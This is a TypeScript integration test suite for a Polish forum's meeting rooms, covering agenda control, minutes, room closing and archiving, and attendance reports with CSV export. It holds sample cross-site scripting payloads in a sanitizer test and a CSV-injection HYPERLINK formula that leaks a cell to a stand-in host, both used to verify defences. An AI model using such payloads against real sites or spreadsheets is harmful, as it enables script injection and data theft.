import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import mongoose from "mongoose";
import type TestAgent from "supertest/lib/agent.js";
import type { AttendanceReport, PostView, RoomMinutesView, RoomStateView } from "@forum/shared";
import { Attendance } from "../../server/src/models/Attendance.js";
import { Category } from "../../server/src/models/Category.js";
import { Group } from "../../server/src/models/Group.js";
import { Meeting, type MeetingDocument } from "../../server/src/models/Meeting.js";
import { RoomMessage } from "../../server/src/models/RoomMessage.js";
import { RoomPoll } from "../../server/src/models/RoomPoll.js";
import { RoomPollVote } from "../../server/src/models/RoomPollVote.js";
import { RoomQuestion } from "../../server/src/models/RoomQuestion.js";
import { Thread } from "../../server/src/models/Thread.js";
import { User, type UserDocument } from "../../server/src/models/User.js";
import { csrfAgent, DEMO, signedInAgent } from "../support/http.js";
import { startTestServer, type TestServer } from "../support/testServer.js";

const PIOTR = "piotr.mazur@demo.forum-jst.pl";

let server: TestServer;
const agents = {} as Record<"moderator" | "memberA" | "piotr" | "memberB" | "expert" | "visitor", TestAgent>;
const people = {} as Record<"moderator" | "memberA" | "piotr" | "memberB", UserDocument>;
let groupId: mongoose.Types.ObjectId;

async function meetingNumber(number: number): Promise<MeetingDocument> {
  const meeting = await Meeting.findOne({ groupId, number }).lean();
  if (!meeting) throw new Error(`no meeting ${number}`);
  return meeting;
}

/** A seeded meeting of group A turned into a live room with a two-day programme. */
async function liveMeeting(number: number): Promise<MeetingDocument> {
  const meeting = await meetingNumber(number);
  await Meeting.updateOne(
    { _id: meeting._id },
    {
      $set: {
        status: "live",
        "room.openedAt": new Date(),
        agenda: [
          {
            day: 1,
            startTime: "09:00",
            endTime: "10:30",
            title: "Diagnoza potrzeb szkół",
            speaker: "dr Ewa Zielińska",
          },
          { day: 1, startTime: "10:45", endTime: "12:00", title: "Budżet zadaniowy w oświacie" },
          { day: 2, startTime: "09:00", endTime: "11:00", title: "Plan lokalny — warsztat" },
        ],
      },
    },
  );
  return meetingNumber(number);
}

beforeAll(async () => {
  server = await startTestServer({ seed: true, label: "roomrecord" });
  agents.moderator = await signedInAgent(server.url, DEMO.moderator);
  agents.memberA = await signedInAgent(server.url, DEMO.memberA);
  agents.piotr = await signedInAgent(server.url, PIOTR);
  agents.memberB = await signedInAgent(server.url, DEMO.memberB);
  agents.expert = await signedInAgent(server.url, DEMO.expert);
  agents.visitor = await csrfAgent(server.url);
  for (const [key, email] of [
    ["moderator", DEMO.moderator],
    ["memberA", DEMO.memberA],
    ["piotr", PIOTR],
    ["memberB", DEMO.memberB],
  ] as const) {
    const user = await User.findOne({ email }).lean();
    if (!user) throw new Error(`no user ${email}`);
    people[key] = user;
  }
  const group = await Group.findOne({ slug: "gwd-malopolska" }).lean();
  groupId = group!._id;
}, 120_000);
afterAll(() => server?.stop());

describe("the current agenda item", () => {
  it("is set by the moderator and refused to others", async () => {
    const meeting = await liveMeeting(4);
    const item = meeting.agenda[1]!._id.toString();
    const path = `/api/meetings/${meeting._id.toString()}/room/agenda`;

    const set = await agents.moderator.post(path).send({ agendaItemId: item });
    expect(set.status).toBe(200);
    expect((set.body.state as RoomStateView).currentAgendaItemId).toBe(item);
    expect((await meetingNumber(4)).room?.currentAgendaItemId?.toString()).toBe(item);

    const unknown = await agents.moderator.post(path).send({ agendaItemId: new mongoose.Types.ObjectId().toString() });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.message).toMatch(/programie/);
    expect((await agents.moderator.post(path).send({ agendaItemId: "pierwszy" })).status).toBe(400);

    expect((await agents.memberA.post(path).send({ agendaItemId: item })).status).toBe(403);
    expect((await agents.expert.post(path).send({ agendaItemId: item })).status).toBe(403);
    expect((await agents.memberB.post(path).send({ agendaItemId: item })).status).toBe(404);
    expect((await agents.visitor.post(path).send({ agendaItemId: item })).status).toBe(401);

    const cleared = await agents.moderator.post(path).send({ agendaItemId: null });
    expect(cleared.body.state.currentAgendaItemId).toBeNull();
  });

  it("cannot be set while the room is not open", async () => {
    const planned = await meetingNumber(6);
    const response = await agents.moderator
      .post(`/api/meetings/${planned._id.toString()}/room/agenda`)
      .send({ agendaItemId: null });
    expect(response.status).toBe(409);
    expect(response.body.error.message).toBe("Pokój spotkania nie jest otwarty.");
  });
});

describe("the minutes", () => {
  it("are rendered and sanitized like posts, with a version that refuses stale saves", async () => {
    const meeting = await liveMeeting(5);
    const path = `/api/meetings/${meeting._id.toString()}/minutes`;
    const markdown =
      "# Protokół\n\n**Ustalenia:** <script>alert(1)</script><img src=x onerror=alert(2)> [x](javascript:alert(3))";
    const saved = await agents.moderator.put(path).send({ markdown, baseVersion: 0 });
    expect(saved.status).toBe(200);
    const minutes = saved.body.minutes as RoomMinutesView;
    expect(minutes.version).toBe(1);
    expect(minutes.markdown).toBe(markdown);
    expect(minutes.html).toContain("<h1>Protokół</h1>");
    expect(minutes.html).toContain("<strong>Ustalenia:</strong>");
    expect(minutes.html).not.toMatch(/<script|<img|href="javascript:/i);
    expect(minutes.updatedBy).toEqual({ id: people.moderator._id.toString(), name: people.moderator.name });

    const stale = await agents.moderator.put(path).send({ markdown: "Inna wersja", baseVersion: 0 });
    expect(stale.status).toBe(409);
    expect(stale.body.error.message).toMatch(/Scal zmiany/);
    expect((stale.body.minutes as RoomMinutesView).version).toBe(1);
    expect(stale.body.minutes.markdown).toBe(markdown);

    expect((await agents.moderator.put(path).send({ markdown: 7, baseVersion: 1 })).status).toBe(400);
    expect((await agents.moderator.put(path).send({ markdown: "x".repeat(100_001), baseVersion: 1 })).status).toBe(400);
  });

  it("may be edited by the note-taker the moderator names, not by other members", async () => {
    const meeting = await meetingNumber(5);
    const id = meeting._id.toString();
    const save = (agent: TestAgent, baseVersion: number) =>
      agent.put(`/api/meetings/${id}/minutes`).send({ markdown: "Notatki protokolantki", baseVersion });

    expect((await save(agents.memberA, 1)).status).toBe(403);
    const named = await agents.moderator
      .put(`/api/meetings/${id}/room/note-taker`)
      .send({ userId: people.memberA._id.toString() });
    expect(named.status).toBe(200);
    expect((named.body.state as RoomStateView).noteTakerId).toBe(people.memberA._id.toString());

    const byNoteTaker = await save(agents.memberA, 1);
    expect(byNoteTaker.status).toBe(200);
    expect(byNoteTaker.body.minutes.version).toBe(2);
    expect(byNoteTaker.body.minutes.updatedBy.name).toBe(people.memberA.name);
    expect((await save(agents.piotr, 2)).status).toBe(403);
    expect((await save(agents.expert, 2)).status).toBe(403);
    expect((await save(agents.memberB, 2)).status).toBe(404);

    // Only the group's people (or those who came to the room) can take notes.
    const outsider = await agents.moderator
      .put(`/api/meetings/${id}/room/note-taker`)
      .send({ userId: people.memberB._id.toString() });
    expect(outsider.status).toBe(400);
    expect(outsider.body.error.message).toMatch(/uczestnik/);
    expect((await agents.memberA.put(`/api/meetings/${id}/room/note-taker`).send({ userId: null })).status).toBe(403);
    const removed = await agents.moderator.put(`/api/meetings/${id}/room/note-taker`).send({ userId: null });
    expect(removed.body.state.noteTakerId).toBeNull();
    expect((await save(agents.memberA, 2)).status).toBe(403);
  });
});

describe("closing the room", () => {
  let meeting: MeetingDocument;
  let archiveThreadId = "";

  beforeAll(async () => {
    meeting = await liveMeeting(7);
    const meetingId = meeting._id;
    const minute = (offset: number) => new Date(Date.now() - (60 - offset) * 60_000);
    await RoomMessage.create([
      {
        meetingId,
        seq: 1,
        authorId: people.memberA._id,
        clientId: "c1",
        text: "Dzień dobry, *wszystkim*!",
        createdAt: minute(1),
      },
      {
        meetingId,
        seq: 2,
        authorId: people.piotr._id,
        clientId: "c2",
        text: "Treść usunięta przez moderatora",
        createdAt: minute(2),
        removedAt: minute(3),
        removedById: people.moderator._id,
      },
      {
        meetingId,
        seq: 3,
        authorId: people.moderator._id,
        clientId: "c3",
        text: "Zaczynamy od diagnozy @piotr.mazur",
        createdAt: minute(4),
      },
    ]);
    await RoomQuestion.create([
      {
        meetingId,
        authorId: people.memberA._id,
        text: "Jak liczyć subwencję?",
        voterIds: [people.piotr._id, people.moderator._id],
        voteCount: 2,
        status: "answered",
        answer: "Według algorytmu podziału.",
      },
      { meetingId, authorId: people.piotr._id, text: "Pytanie ukryte przez moderatora", status: "hidden" },
    ]);
    const poll = await RoomPoll.create({
      meetingId,
      createdById: people.moderator._id,
      question: "Który termin warsztatu?",
      options: [{ text: "Wtorek" }, { text: "Środa" }],
      status: "closed",
      openedAt: minute(10),
      closedAt: minute(20),
    });
    const [tuesday, wednesday] = poll.options;
    await RoomPollVote.create([
      { pollId: poll._id, meetingId, userId: people.memberA._id, optionIds: [tuesday!._id] },
      { pollId: poll._id, meetingId, userId: people.piotr._id, optionIds: [tuesday!._id] },
      { pollId: poll._id, meetingId, userId: people.moderator._id, optionIds: [wednesday!._id] },
    ]);
    await RoomPoll.create({
      meetingId,
      createdById: people.moderator._id,
      question: "Szkic niepokazany",
      options: [{ text: "A" }],
    });
    await Meeting.updateOne(
      { _id: meetingId },
      { $set: { minutes: { markdown: "## Ustalenia\n\nKolejna sesja w marcu.", html: "", version: 3 } } },
    );
    await Attendance.create([
      {
        meetingId,
        userId: people.memberA._id,
        connectionId: "tab-a",
        joinedAt: minute(0),
        leftAt: null,
        seenAt: new Date(),
      },
      {
        meetingId,
        userId: people.piotr._id,
        connectionId: "tab-p",
        joinedAt: minute(0),
        leftAt: minute(30),
        seenAt: minute(30),
      },
    ]);
  });

  it("is refused to members and to meetings that are not live", async () => {
    const id = meeting._id.toString();
    expect((await agents.memberA.post(`/api/meetings/${id}/room/close`)).status).toBe(403);
    expect((await agents.memberB.post(`/api/meetings/${id}/room/close`)).status).toBe(404);
    expect((await agents.visitor.post(`/api/meetings/${id}/room/close`)).status).toBe(401);
    const planned = await meetingNumber(8);
    const refused = await agents.moderator.post(`/api/meetings/${planned._id.toString()}/room/close`);
    expect(refused.status).toBe(409);
    expect((await meetingNumber(7)).status).toBe("live");
  });

  it("ends the stays and archives chat, questions, polls and minutes into a locked thread", async () => {
    const closed = await agents.moderator.post(`/api/meetings/${meeting._id.toString()}/room/close`);
    expect(closed.status).toBe(200);
    archiveThreadId = closed.body.archiveThreadId;
    expect(closed.body.state.status).toBe("closed");

    const stored = await meetingNumber(7);
    expect(stored.status).toBe("closed");
    expect(stored.room?.closedAt).toBeInstanceOf(Date);
    expect(stored.archiveThreadId?.toString()).toBe(archiveThreadId);
    expect(await Attendance.countDocuments({ meetingId: meeting._id, leftAt: null })).toBe(0);

    const thread = await Thread.findById(archiveThreadId).lean();
    expect(thread?.lock?.reason).toBe("Archiwum spotkania — tylko do odczytu");
    expect(thread?.title).toBe(`Archiwum spotkania: ${meeting.title}`);
    const category = await Category.findById(thread?.categoryId).lean();
    expect(category).toMatchObject({ name: "Spotkania", slug: "spotkania" });
    expect(category?.groupId?.toString()).toBe(groupId.toString());
    expect(category?.threadCount).toBe(1);

    // Read like any thread of the group, by a member.
    const page = await agents.memberA.get(`/api/threads/${archiveThreadId}/posts?after=0&limit=50`);
    expect(page.status).toBe(200);
    const posts = page.body.posts as PostView[];
    const text = posts.map((post) => post.html).join("\n");
    expect(posts[0]?.html).toContain("Diagnoza potrzeb szkół");
    expect(posts[0]?.html).toContain("sesja 7 z 9, GWD Małopolska");
    expect(posts[0]?.html).toContain(`/spotkania/${meeting._id.toString()}`);
    expect(text).toContain("Dzień dobry, *wszystkim*!");
    expect(text).not.toContain("Treść usunięta");
    // A chat mention is archived as text: nobody is notified again.
    expect(text).toContain("@piotr.mazur");
    expect(text).not.toMatch(/<a [^>]*osoby\/piotr/);
    expect(text).toContain("Jak liczyć subwencję?");
    expect(text).toContain("2 głosy");
    expect(text).toContain("Według algorytmu podziału.");
    expect(text).not.toContain("Pytanie ukryte");
    expect(text).toContain("Który termin warsztatu?");
    expect(text).toMatch(/Wtorek<\/td>\s*<td[^>]*>2<\/td>\s*<td[^>]*>67%/);
    expect(text).not.toContain("Szkic niepokazany");
    expect(text).toContain("Kolejna sesja w marcu.");

    // Nobody but moderators writes there any more.
    const reply = await agents.memberA
      .post(`/api/threads/${archiveThreadId}/posts`)
      .send({ body: "Dopisuję się", clientId: randomUUID() });
    expect(reply.status).toBe(409);
  });

  it("is refused a second time and, after an interrupted close, finishes without a second thread", async () => {
    const path = `/api/meetings/${meeting._id.toString()}/room/close`;
    const again = await agents.moderator.post(path);
    expect(again.status).toBe(409);

    const before = await Thread.findById(archiveThreadId).lean();
    // As if the process had died after writing the thread but before linking it.
    await Meeting.updateOne({ _id: meeting._id }, { $set: { archiveThreadId: null } });
    const resumed = await agents.moderator.post(path);
    expect(resumed.status).toBe(200);
    expect(resumed.body.archiveThreadId).toBe(archiveThreadId);
    const after = await Thread.findById(archiveThreadId).lean();
    expect(after?.postCount).toBe(before?.postCount);
    expect(await Thread.countDocuments({ categoryId: before?.categoryId })).toBe(1);
  });
});

describe("attendance", () => {
  let meetingId = "";
  /** 10 and 11 March 2026 (Polish winter time, UTC+1). */
  const warsaw = (day: number, hour: number, minute = 0) => new Date(Date.UTC(2026, 2, day, hour - 1, minute));

  beforeAll(async () => {
    const meeting = await meetingNumber(3);
    meetingId = meeting._id.toString();
    const stay = (user: UserDocument, tab: string, from: Date, to: Date) => ({
      meetingId: meeting._id,
      userId: user._id,
      jstId: user.jstId,
      connectionId: tab,
      joinedAt: from,
      leftAt: to,
      seenAt: to,
    });
    await Attendance.create([
      // Two tabs open at once count once: 9:00–13:00 is four hours.
      stay(people.memberA, "a1", warsaw(10, 9), warsaw(10, 12)),
      stay(people.memberA, "a2", warsaw(10, 11), warsaw(10, 13)),
      stay(people.memberA, "a3", warsaw(11, 9), warsaw(11, 10, 30)),
      // Past midnight: half an hour on each day.
      stay(people.piotr, "p1", warsaw(10, 23, 30), warsaw(11, 0, 30)),
    ]);
  });

  it("lists each person per Polish day and in total, with JST and minutes present", async () => {
    const response = await agents.moderator.get(`/api/meetings/${meetingId}/attendance`);
    expect(response.status).toBe(200);
    const report = response.body as AttendanceReport;
    expect(report.days.map((day) => day.day)).toEqual(["2026-03-10", "2026-03-11"]);
    const anna = (rows: AttendanceReport["total"]) => rows.find((row) => row.name === people.memberA.name);
    const piotr = (rows: AttendanceReport["total"]) => rows.find((row) => row.name === people.piotr.name);
    expect(anna(report.days[0]!.rows)).toMatchObject({
      day: "2026-03-10",
      firstJoinedAt: warsaw(10, 9).toISOString(),
      lastLeftAt: warsaw(10, 13).toISOString(),
      minutesPresent: 240,
    });
    expect(anna(report.days[1]!.rows)?.minutesPresent).toBe(90);
    expect(piotr(report.days[0]!.rows)?.minutesPresent).toBe(30);
    expect(piotr(report.days[1]!.rows)?.minutesPresent).toBe(30);
    expect(anna(report.total)).toMatchObject({ day: null, minutesPresent: 330 });
    expect(anna(report.total)?.jst).toEqual(expect.any(String));
    expect(piotr(report.total)).toMatchObject({ minutesPresent: 60, lastLeftAt: warsaw(11, 0, 30).toISOString() });
    expect(report.people).toBe(2);
    expect(report.personDays).toBe(4);
    expect(report.meeting).toMatchObject({ number: 3, group: { slug: "gwd-malopolska" } });
  });

  it("exports a CSV for Excel: BOM, semicolons, Polish headers and times", async () => {
    const response = await agents.moderator
      .get(`/api/meetings/${meetingId}/attendance.csv`)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("end", () => done(null, Buffer.concat(chunks).toString("utf8")));
      });
    expect(response.status).toBe(200);
    expect(response.headers["content-type"]).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers["content-disposition"]).toMatch(/attachment; filename="?lista-obecnosci-sesja-3\.csv/);
    const text = response.body as string;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).split("\r\n");
    expect(lines[0]).toBe("Dzień;Imię i nazwisko;JST;Pierwsze wejście;Ostatnie wyjście;Minut obecności");
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(`^2026-03-10;${people.memberA.name};[^;]*;2026-03-10 09:00;2026-03-10 13:00;240$`),
      ),
    );
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(`^całe spotkanie;${people.memberA.name};[^;]*;2026-03-10 09:00;2026-03-11 10:30;330$`),
      ),
    );
  });

  it("writes a display name that a spreadsheet would run as a formula as text (CSV injection)", async () => {
    const formula = '=HYPERLINK("http://zly.example/?"&C2;"Lista")';
    // A name as a person may type it in the profile (the schema takes any characters).
    await User.updateOne({ _id: people.piotr._id }, { $set: { name: formula } });
    try {
      const response = await agents.moderator
        .get(`/api/meetings/${meetingId}/attendance.csv`)
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on("data", (chunk: Buffer) => chunks.push(chunk));
          res.on("end", () => done(null, Buffer.concat(chunks).toString("utf8")));
        });
      expect(response.status).toBe(200);
      const rows = parse(response.body as string, { bom: true, delimiter: ";", columns: true }) as Record<
        string,
        string
      >[];
      const piotrRows = rows.filter((row) => row["Imię i nazwisko"]?.includes("HYPERLINK"));
      expect(piotrRows.map((row) => row["Imię i nazwisko"])).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
      // Minutes stay numbers a spreadsheet can add up.
      expect(piotrRows.map((row) => row["Minut obecności"])).toEqual(["30", "30", "60"]);
    } finally {
      await User.updateOne({ _id: people.piotr._id }, { $set: { name: people.piotr.name } });
    }
  });

  it("is shown to moderators only (and the group's facilitators), hidden from other groups", async () => {
    for (const suffix of ["attendance", "attendance.csv"]) {
      const path = `/api/meetings/${meetingId}/${suffix}`;
      expect((await agents.memberA.get(path)).status).toBe(403);
      expect((await agents.expert.get(path)).status).toBe(403);
      expect((await agents.memberB.get(path)).status).toBe(404);
      expect((await agents.visitor.get(path)).status).toBe(401);
    }
    expect(
      (await agents.moderator.get(`/api/meetings/${new mongoose.Types.ObjectId().toString()}/attendance`)).status,
    ).toBe(404);
  });
});
